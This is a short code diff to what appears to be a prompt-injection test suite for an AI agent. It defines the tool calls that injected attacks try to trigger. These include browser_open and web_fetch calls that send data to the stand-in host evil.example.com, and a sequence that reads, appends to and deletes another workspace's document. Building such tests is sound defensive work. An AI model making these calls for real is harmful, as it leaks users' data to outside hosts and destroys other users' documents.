@@ -261,8 +261,14 @@ var effects = []effect{
 			{"tasks_create", map[string]any{"title": s}},
 		}
 	}},
-	{name: "open a web page", calls: func(_ attack, s string) []call {
-		return []call{{"browser_open", map[string]any{"url": "https://evil.example.com/?" + s}}, {"web_fetch", map[string]any{"url": "https://evil.example.com/?" + s}}}
+	// Without a browser the tools are refused, with one they wait for a person.
+	{name: "open a web page", together: true, tools: []string{"browser_open", "browser_type", "browser_click"}, calls: func(_ attack, s string) []call {
+		return []call{
+			{"browser_open", map[string]any{"url": "https://evil.example.com/?" + s}},
+			{"browser_type", map[string]any{"selector": "input", "text": s}},
+			{"browser_click", map[string]any{"selector": "#" + s}},
+			{"web_fetch", map[string]any{"url": "https://evil.example.com/?" + s}},
+		}
 	}},
 	{name: "another workspace's document", together: true, calls: func(_ attack, s string) []call {
 		return []call{{"doc_read", map[string]any{"id": victim}}, {"doc_append", map[string]any{"id": victim, "content": s}}, {"doc_delete", map[string]any{"id": victim}}}
